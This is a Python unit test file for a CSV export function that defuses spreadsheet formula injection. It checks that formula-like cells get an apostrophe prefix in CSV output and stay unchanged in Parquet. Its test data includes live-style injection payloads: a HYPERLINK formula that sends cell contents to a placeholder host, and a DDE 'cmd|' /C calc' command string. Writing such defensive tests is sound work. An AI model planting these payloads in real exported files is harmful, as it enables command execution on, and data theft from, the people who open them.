import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.campaign.test_senders import build, messages, parquet

from capline.campaign.csv_cells import csv_cell
from capline.campaign.senders.protocol import RunInfo

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "=1+1",
    "@SUM(A1)",
    "+A1",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "+",
    "-",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a@x.org", "a=b", "'=1", "+49 30 1234567", "+49 (0)30/1-2", "-12.5", "-1"])
def test_other_texts_stay(text: str) -> None:
    assert csv_cell(text) == text


@given(st.text(max_size=12))
def test_no_cell_begins_like_a_formula_but_numbers(text: str) -> None:
    cell = csv_cell(text)
    assert cell in (text, f"'{text}")
    if cell.lstrip()[:1] in ("=", "@") or cell[:1] in ("\t", "\r", "\n"):
        raise AssertionError(cell)
    if cell[:1] in ("+", "-"):
        assert not any(character.isalpha() or character in "|!=@+" for character in cell[1:])


def test_parts_in_csv_have_no_formulas_and_parts_in_parquet_have_every_text_as_it_is(tmp_path: Path) -> None:
    run = RunInfo("sale", "r1", None, ("=name",))
    found: dict[str, list[dict[str, str]]] = {}
    for form in ("csv", "parquet"):
        sender = build(tmp_path, f"{{file: {form}, format: {form}}}")
        sender.open(run)
        batch = messages(*range(len(FORMULAS)), run=run)
        object.__setattr__(batch, "columns", {"=name": FORMULAS})
        object.__setattr__(batch, "segments", (None, "=active"))
        sender.send(batch)
        part = tmp_path / form / f"part-000000.{form}"
        if form == "csv":
            with part.open(newline="") as file:
                found[form] = list(csv.DictReader(file))
        else:
            found[form] = parquet.read_table(part).to_pylist()
    assert [row["'=name"] for row in found["csv"]] == [f"'{text}" for text in FORMULAS]
    assert {row["segment"] for row in found["csv"]} == {"", "'=active"}
    assert [row["=name"] for row in found["parquet"]] == FORMULAS
